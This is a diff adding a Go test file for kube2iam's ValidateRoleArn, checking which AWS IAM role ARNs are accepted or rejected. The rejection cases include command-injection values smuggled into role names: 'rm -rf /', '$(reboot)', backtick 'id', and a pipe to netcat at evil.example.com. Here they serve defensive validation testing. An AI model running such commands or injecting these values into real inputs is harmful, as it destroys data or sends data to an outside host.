@@ -0,0 +1,41 @@
+package kube2iam
+
+import (
+	"strings"
+	"testing"
+
+	. "github.com/smartystreets/goconvey/convey"
+)
+
+func TestValidateRoleArn(t *testing.T) {
+	Convey("ValidateRoleArn", t, func() {
+		Convey("should accept role ARNs", func() {
+			for _, arn := range []string{
+				"arn:aws:iam::123456789012:role/superawesome-powerful-Role3",
+				"arn:aws:iam::123456789012:role/foo/k8s/fooS3AndKmsStack-fooFlinkForS3AndKMS-9336B1OLABTR",
+				"arn:aws-us-gov:iam::123456789012:role/service+role=a,b.c@d_e",
+			} {
+				So(ValidateRoleArn(arn), ShouldBeNil)
+			}
+		})
+		Convey("should reject anything else", func() {
+			for _, arn := range []string{
+				"",
+				"superawesome-powerful-Role3",
+				"arn:aws:iam::123456789012:user/bob",
+				"arn:aws:iam::12345:role/short-account",
+				"arn:aws:s3:::bucket",
+				"arn:aws:iam::123456789012:role/",
+				"arn:aws:iam::123456789012:role/foo;rm -rf /",
+				"arn:aws:iam::123456789012:role/$(reboot)",
+				"arn:aws:iam::123456789012:role/`id`",
+				"arn:aws:iam::123456789012:role/foo|nc evil.example.com 80",
+				"arn:aws:iam::123456789012:role/foo\nbar",
+				"arn:aws:iam::123456789012:role/" + strings.Repeat("a", 65),
+				"arn:aws:iam::123456789012:role/" + strings.Repeat("a/", 1100) + "a",
+			} {
+				So(ValidateRoleArn(arn), ShouldNotBeNil)
+			}
+		})
+	})
+}